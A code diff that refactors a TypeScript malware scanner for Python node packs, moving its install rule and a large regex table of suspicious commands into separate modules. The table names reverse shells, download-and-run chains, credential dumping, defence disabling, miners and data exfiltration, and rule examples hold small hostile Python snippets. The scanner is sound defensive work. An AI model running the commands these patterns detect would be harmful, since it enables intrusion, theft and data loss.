@@ -1,310 +1,10 @@
-import { anyOf, notAcross, sequence, type Test } from '../../text-search.ts'
-import {
-  argumentOf,
-  argumentsOf,
-  type CodeFacts,
-  commandOf,
-  commandValue,
-  isProgramStart,
-  isSet,
-  programOf,
-} from '../code-facts.ts'
+import { argumentOf, commandOf, commandValue, isProgramStart, isSet, programOf } from '../code-facts.ts'
 import type { Call } from '../flow/flow.ts'
-import { hostOf, isPackageIndex } from '../flow/hosts.ts'
-import { isIndexVariable } from '../flow/python-library.ts'
-import { has, type Value } from '../flow/values.ts'
-import { misspelt } from '../known-packages.ts'
-import type { CodeRule, Hit } from '../rule.ts'
-
-function* processHits(
-  facts: CodeFacts,
-  accepts: (command: string, call: Call) => Omit<Hit, 'line'> | undefined,
-): Generator<Hit> {
-  for (const call of facts.calls) {
-    if (!isProgramStart(call)) continue
-    const hit = accepts(commandOf(call), call)
-    if (hit) yield { line: call.line, ...hit }
-  }
-}
-
-const installCommand = anyOf(
-  sequence(/\bpip3?\b/, /\binstall\b/),
-  sequence(/\buv\b/, /\b(pip|add)\b/),
-  sequence(/\b(conda|npm|apt|apt-get|brew|yarn|choco|winget|easy_install|poetry)\b/, /\b(install|add)\b/),
-  /\beasy_install\b/,
-)
-const isInstall = (command: string) => installCommand.test(command)
-
-export const installs: CodeRule = {
-  of: 'python',
-  id: 'package-install',
-  severity: 'low',
-  why: 'What is installed while the pack runs is not seen by anyone who checked it, and can break other packs.',
-  fix: 'Name the packages under `dependencies` in pyproject.toml.',
-  examples: {
-    matching: [
-      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
-      'import os\nos.system("pip install numpy")',
-      'import pip\npip.main(["install", "x"])',
-      'import runpy, sys\nsys.argv = ["pip", "install", "x"]\nrunpy.run_module("pip", run_name="__main__")',
-      'import subprocess\nsubprocess.run("pip install -i https://example.test/simple numpy", shell=True)',
-      'import os\nos.environ["PIP_INDEX_URL"] = "https://example.test/simple"',
-      'import subprocess, os\nsubprocess.run(["make"], env={**os.environ, "PIP_EXTRA_INDEX_URL": "https://example.test"})',
-    ],
-    harmless: [
-      'import os\nos.environ["PIP_INDEX_URL"] = "https://pypi.org/simple"',
-      'import subprocess\nsubprocess.run(["git", "pull"])',
-      'print("pip install numpy")',
-    ],
-  },
-  *find(facts) {
-    for (const call of facts.calls) {
-      if (indexesSet(call).some((value) => value.texts.some(isStrangeIndex)))
-        yield {
-          line: call.line,
-          message: 'Has installers ask an index that is not well known.',
-          severity: 'high',
-        }
-      const isModule = /^runpy\.run_module$/.test(call.name) && call.args[0]?.texts.includes('pip') === true
-      const isPip =
-        /^pip(\._internal)?(\.\S+)?\.main$|^pip\._internal\.\S+\.main$|^ensurepip\.bootstrap$/.test(call.name)
-      const command = isProgramStart(call) ? commandOf(call) : isPip ? `pip ${pipWords(call.args[0])}` : ''
-      if (isModule || isPip || isInstall(command)) yield { line: call.line, ...installHit(call, command) }
-    }
-  },
-}
-
-/** Where installers are told to look, by a variable of the environment. */
-function indexesSet({ name, args, keywords }: Call): Value[] {
-  const stored = /\.(\w+)=$/.exec(name)?.[1]
-  if (stored !== undefined) return isIndexVariable(stored) ? [...args] : []
-  if (/(^|\.)(putenv|setdefault)$/.test(name))
-    return args[0]?.texts.some(isIndexVariable) ? args.slice(1, 2) : []
-  if (!/\.update$/.test(name) && !keywords.has('env')) return []
-  return [...args, ...keywords.values()].flatMap((value) =>
-    [...(value.fields ?? [])].flatMap(([key, held]) => (isIndexVariable(key) ? [held] : [])),
-  )
-}
-
-function isStrangeIndex(address: string): boolean {
-  return hostOf(address) !== '' && !isPackageIndex(address)
-}
-
-function pipWords(words: Value | undefined): string {
-  return (words?.items ?? []).map((item) => item.texts[0] ?? '…').join(' ')
-}
-
-function installHit(call: Call, command: string): Omit<Hit, 'line'> {
-  if (argumentsOf(call).some((value) => has(value, 'network', 'download')))
-    return { message: 'Installs packages that the network names.', severity: 'high' }
-  if (argumentsOf(call).some((value) => has(value, 'decoded')))
-    return { message: 'Installs packages whose names are hidden.', severity: 'high' }
-  const index = /(?:-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+(\S+)/.exec(command)?.[1]
-  if (index !== undefined && isStrangeIndex(index))
-    return { message: 'Installs packages from an index that is not well known.', severity: 'high' }
-  const typo = installedNames(command)
-    .map(misspelt)
-    .find((word) => word !== undefined)
-  if (typo)
-    return { message: `Installs a package whose name looks like a misspelt \`${typo}\`.`, severity: 'high' }
-  if (/\bhttp:\/\//.test(command))
-    return { message: 'Installs a package from an unencrypted address.', severity: 'high' }
-  if (
-    /(git\+|https:\/\/)\S+/.test(
-      command.replace(/(-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+\S+/g, ''),
-    )
-  )
-    return { message: 'Installs a package from an address, not from the index.', severity: 'medium' }
-  return call.isAtImport
-    ? { message: 'Installs packages as soon as it is loaded.', severity: 'medium' }
-    : { message: 'Installs packages while it runs.' }
-}
-
-/** The packages that a command names. */
-function installedNames(command: string): string[] {
-  const [, words = ''] = /\binstall\s+(.*)/.exec(command) ?? []
-  return words.split(/\s+/).filter((word) => !/^-|[:/\\]|…/.test(word))
-}
-
-/** Commands that no comfy-node needs, with what they do. */
-const suspiciousCommands: [Test, string][] = [
-  [
-    anyOf(
-      sequence(
-        /\b(curl|wget)\b/,
-        notAcross(/[|;&]/, /(\|\s*|\|\|\s*|-O\s*-\s*\|)(sudo\s+)?(env\s+)?(\/bin\/)?(ba|z|da|k)?sh\b/),
-      ),
-      sequence(/\b(curl|wget)\b/, /\|\s*(sudo\s+)?(python\d?(\.\d+)?|perl|ruby|node|php)\b/),
-      sequence(/\b(ba|z|da)?sh\s/, notAcross(/[^\s"'(<$`c-]/, /(<\(|\$\(|`)\s*(curl|wget)\b/)),
-    ),
-    'downloads a script and runs it',
-  ],
-  [
-    sequence(
-      /\b(curl|wget)\b/,
-      notAcross(/[;&]/, /(&&|;)\s*(sudo\s+)?(chmod\s+\S*[x7]|(ba|z|da)?sh\s|python\d?\s|\.\/)/),
-    ),
-    'downloads a program and runs it',
-  ],
-  [
-    anyOf(
-      sequence(/\bbase64\s+(-d|-D|--decode)\b/, /\|\s*(ba|z|da)?sh\b/),
-      /\|\s*base64\s+(-d|-D|--decode)\s*\|/,
-    ),
-    'runs something that is decoded first',
-  ],
-  [
-    anyOf(
-      sequence(/powershell/i, notAcross(/\|/, /\s[-/](e|ec|en|enc|enco\w*|encodedcommand)\b/i)),
-      sequence(/powershell/i, /\bfrombase64string\b/i),
-    ),
-    'runs an encoded PowerShell command',
-  ],
-  [
-    sequence(
-      /(powershell|pwsh)/i,
-      /downloadstring|downloadfile|invoke-webrequest|\biwr\b|\birm\b|\biex\b|invoke-expression|invoke-restmethod|start-bitstransfer|net\.webclient/i,
-    ),
-    'lets PowerShell download something',
-  ],
-  [
-    anyOf(
-      /\biex\s*[("'$]/i,
-      sequence(/\binvoke-expression\b/i, /http|download|webclient/i),
-      sequence(/\b(iwr|irm)\b/i, /\|\s*iex/i),
-    ),
-    'lets PowerShell run what it downloads',
-  ],
-  [
-    anyOf(
-      /\bmshta\b\s+\S*(http|javascript|vbscript)/i,
-      sequence(/\bregsvr32\b/i, /\/i:|http/i),
-      sequence(/\bcertutil\b/i, /[-/](urlcache|decode)/i),
-      sequence(/\bbitsadmin\b/i, /\/transfer/i),
-      sequence(/\brundll32\b/i, /javascript|http|,/i),
-      sequence(/\bwmic\b/i, /\bprocess\b/i, /\bcreate\b/i),
-      sequence(/\bmsiexec\b/i, /http/i),
-      sequence(/\b[cw]script\b/i, /\.(vbs|js)/i),
-    ),
-    'uses a system tool that is known for loading code',
-  ],
-  [
-    anyOf(
-      sequence(/\b(nc|ncat|netcat)(\.exe|\.traditional)?\b/i, /\s-[^\Wec]*[ec]\w*\s/i),
-      /\/dev\/(tcp|udp)\//i,
-      sequence(/\bsocat\b/i, /\bexec\b/i),
-      sequence(/\bmkfifo\b/i, /\b(nc|sh)\b/i),
-      sequence(/\bbash\s+-i\b/, /[>&]/),
-    ),
-    'opens a shell to another machine',
-  ],
-  [
-    anyOf(
-      /\bset-mppreference\b|\badd-mppreference\b|\bsetenforce\s+0|\bsc\b\s+(stop|delete)\s+windefend|\bhistory\s+-c\b/i,
-      sequence(/\bnetsh\b/i, /\b(firewall|advfirewall)\b/i, /\b(off|disable|add)\b/i),
-      sequence(/\bvssadmin\b/i, /delete/i),
-      sequence(/\bwevtutil\b/i, /\bcl\b/i),
-      sequence(/\b(iptables|ufw)\b/i, /-F|disable/i),
-      sequence(/\btaskkill\b/i, /defender|msmpeng|antivirus/i),
-    ),
-    'switches off protection',
-  ],
-  [
-    anyOf(
-      /\bxmrig\b|stratum\+(tcp|ssl):|\bminerd\b|\bnicehash\b|\bcpuminer\b|\bethminer\b|\bnbminer\b|--donate-level/i,
-      sequence(/\bt-rex\b/i, /-a\b/i),
-    ),
-    'mines currency',
-  ],
-  [
-    anyOf(
-      sequence(
-        /\brm(?=\s)/i,
-        notAcross(/[^-\w \t]/, /\s-[^\Wrf]*[rf]\w*(?=\s)/i),
-        notAcross(/[^-\w \t]/, /\s(\/|~|\$HOME|~\/\*)(\s|$|\*)/i),
-      ),
-      /\bformat\s+[a-z]:\s*\/|\b(rd|rmdir)\s+\/s\s+\/q\s+([a-z]:\\?|%userprofile%)(\s|$)|\bmkfs\.\w+|\bdd\s+if=\/dev\/(zero|u?random)\s+of=\/dev\/|>\s*\/dev\/sd[a-z]\b|:\(\)\s*\{\s*:\|:/i,
-      sequence(/\bdel\s+(\/\w\s+)*\/s\s/i, /[a-z]:\\|%userprofile%/i),
-    ),
-    'destroys the user’s files',
-  ],
-  [
-    anyOf(
-      /\bchmod\s+\S*s\b\s+\/|\bvisudo\b|NOPASSWD|\buseradd\b|\bnet\s+localgroup\s+administrators\b/i,
-      sequence(/\bnet\s+user\s/i, /\s\/add/i),
-    ),
-    'gives itself more rights',
-  ],
-  [
-    anyOf(
-      /\bsecurity\s+(find|dump|export)-\w*(password|keychain)|\bcmdkey\s+\/list|\breg\s+save\s+hklm\\sam|\bmimikatz\b|\/etc\/shadow/i,
-      sequence(/\bnetsh\s+wlan\s+show\s+profile/i, /key/i),
-      sequence(/\bprocdump\b/i, /lsass/i),
-    ),
-    'reads stored passwords',
-  ],
-  [
-    anyOf(
-      /\b(crontab\s+(-(?!l)|\/|\S+\/)|launchctl\s+(load|bootstrap|submit)|systemctl\s+(--user\s+)?(enable|start)|at\s+now|sc(\.exe)?\s+create)|\|\s*crontab\b/i,
-      sequence(/\bschtasks(\.exe)?\s/i, /\/create/i),
-      sequence(/\breg(\.exe)?\s+add\b/i, /currentversion\\+run/i),
-    ),
-    'sets up something that starts by itself',
-  ],
-  [
-    sequence(/>>\s*/, notAcross(/\s/, /\.(bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b/)),
-    'adds to a file that every shell runs',
-  ],
-  [
-    sequence(
-      /\bgit\b/i,
-      /\bconfig\b/i,
-      /(\bcore\.(hooksPath|fsmonitor|sshCommand|gitProxy)|\bcredential\.helper|\.insteadOf|\balias\.\w+)\s+[^\s|&;]/i,
-    ),
-    'changes what git runs',
-  ],
-  [
-    sequence(/\b(pip3?|uv)\b/i, /\bconfig\b/i, /\bset\b/i, /\b(index-url|extra-index-url)\b/i),
-    'changes where packages come from',
-  ],
-  [
-    sequence(
-      /\b(node|bun|deno|perl|ruby|php)(\.exe)?\s+(-e|-r|--eval|eval)\s/i,
-      /\b(fetch|https?|eval|exec|system|child_process|socket)\b/i,
-    ),
-    'carries a program that it runs',
-  ],
-  [
-    anyOf(
-      />>?\s*\/etc\/(hosts|crontab|cron\.\w+|sudoers|ld\.so\.preload|profile)\b/i,
-      sequence(/>\s*/, notAcross(/\s/, /drivers\\+etc\\+hosts/i)),
-    ),
-    'changes a file of the system',
-  ],
-  [
-    sequence(
-      /\bcurl\b/i,
-      /\s-d\s|--data(-\w+)*[\s=]|-F\s|--form\s|-T\s|--upload-file\s/i,
-      notAcross(/\|/, /\$\(|`|@(~|\/|\$HOME)|\benv\b|\$\{?\w*(TOKEN|KEY|SECRET|PASS)/i),
-    ),
-    'sends the user’s data away',
-  ],
-  [
-    sequence(/\|\s*(curl|wget|nc|ncat)\b/, /\s-d\s*@-|--data(-\w+)*\s+@-|--post-file|-T\s*-|\s\d{2,5}\b/),
-    'sends what a command prints to another machine',
-  ],
-  [
-    sequence(
-      /\b(ngrok|cloudflared|localtunnel|serveo\.net|chisel|frpc)\b/i,
-      /\b(tcp|ssh|22|3389|client|-R)\b/i,
-    ),
-    'opens the machine to the network',
-  ],
-]
-
-export function suspicionOf(command: string): string | undefined {
-  return suspiciousCommands.find(([pattern]) => pattern.test(command))?.[1]
-}
+import { has } from '../flow/values.ts'
+import type { CodeRule } from '../rule.ts'
+import { installs, isInstall } from './installs.ts'
+import { decides, hidesCommand, processHits, programValue } from './process-calls.ts'
+import { suspicionOf } from './suspicious-commands.ts'
 
 export const dangerousCommand: CodeRule = {
   of: 'python',
@@ -343,7 +43,7 @@ export const hiddenCommand: CodeRule = {
   id: 'hidden-command',
   severity: 'critical',
   why: 'A command that is decoded before it runs hides what it does from everyone who reads it.',
-  fix: 'Write the command as it is.',
+  fix: 'Write the command as plain text.',
   examples: {
     matching: [
       'import os, base64\nos.system(base64.b64decode("bHM=").decode())',
@@ -362,42 +62,11 @@ export const hiddenCommand: CodeRule = {
     ),
 }
 
-/** Programs that run what they are given. */
-const interpreter =
-  /^(python\d?(\.\d+)?|pythonw|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php|wscript|cscript|mshta|osascript|sudo|env|start|open|xdg-open|msiexec|rundll32|chmod)$/
-
-function programValue(call: Call): Value | undefined {
-  const command = commandValue(call)
-  return command?.items?.[0] ?? command
-}
-
-/** True when what has this origin decides what runs, not only what it is given. */
-function decides(call: Call, ...origin: Parameters<typeof has>[1][]): boolean {
-  const command = commandValue(call)
-  if (!has(command, ...origin)) return false
-  if (has(programValue(call), ...origin) && command?.items) return true
-  const text = commandOf(call)
-  const program = programOf(text)
-  // The module that Python runs is written out.
-  if (command?.items && /^\S+\s+(-[a-zA-Z]\s+)*-m\s+\w/.test(text) && program.includes('python')) return false
-  // A single word is the program itself.
-  if (!command?.items && (program === '' || !/\s/.test(text))) return true
-  if (command?.items && (!isSet(call, 'shell') || !interpreter.test(program)))
-    return interpreter.test(program)
-  return interpreter.test(program)
-}
-
-/** In a list of words, only the program and what an interpreter runs are a command. */
-function hidesCommand(call: Call): boolean {
-  const command = commandValue(call)
-  return command?.items ? decides(call, 'decoded') : has(command, 'decoded')
-}
-
 export const remoteCommand: CodeRule = {
   of: 'python',
   id: 'remote-command',
   severity: 'critical',
-  why: 'Whoever controls that address can run any program on every machine that has the pack.',
+  why: 'The owner of that address can run any program on every machine that has the pack.',
   fix: 'Remove it. A pack starts only programs that its source names.',
   examples: {
     matching: [
@@ -421,7 +90,7 @@ export const remoteCommand: CodeRule = {
         ? { message: 'Runs a command that comes from the network.' }
         : undefined
     })
-    // Which process is written to is not known: any of the file that reads what it runs.
+    // The target process of a write is unknown, so it may be any process of the file that runs its input.
     if (!facts.calls.some((call) => isProgramStart(call) && isShell(call))) return
     for (const call of facts.calls)
       if (/Popen\(\)\.(communicate|stdin\.write)$/.test(call.name) && has(call.args[0], 'network'))
@@ -429,7 +98,7 @@ export const remoteCommand: CodeRule = {
   },
 }
 
-/** An interpreter that is given no file, and so runs what it reads. */
+/** Whether this is an interpreter without a file, which runs its input. */
 function isShell(call: Call): boolean {
   const [program = '', ...rest] = commandOf(call).split(/\s+/)
   const runs = /^(python\d?(\.\d+)?|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php)$/
@@ -440,8 +109,8 @@ export const downloadedProgram: CodeRule = {
   of: 'python',
   id: 'downloaded-program',
   severity: 'high',
-  why: 'Whoever controls that address can run any program on every machine that has the pack.',
-  fix: 'Let the user install the program, or name a package that brings it.',
+  why: 'The owner of that address can run any program on every machine that has the pack.',
+  fix: 'Let the user install the program, or name a package that contains it.',
   examples: {
     matching: [
       'import os, urllib.request as u\np = "a.exe"\nu.urlretrieve("https://example.test/a.exe", p)\nos.startfile(p)',
@@ -468,8 +137,8 @@ export const requestCommand: CodeRule = {
   of: 'python',
   id: 'request-command',
   severity: 'high',
-  why: 'Whoever reaches the tool’s server, such as a web page that its user opens, can run programs.',
-  fix: 'Start fixed programs with a list of arguments, and check what requests ask for.',
+  why: 'Anyone who reaches the tool’s server can run programs, such as a web page that its user opens.',
+  fix: 'Start fixed programs with a list of arguments, and check the arguments of requests.',
   examples: {
     matching: [
       'import os\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    os.system(data["cmd"])',
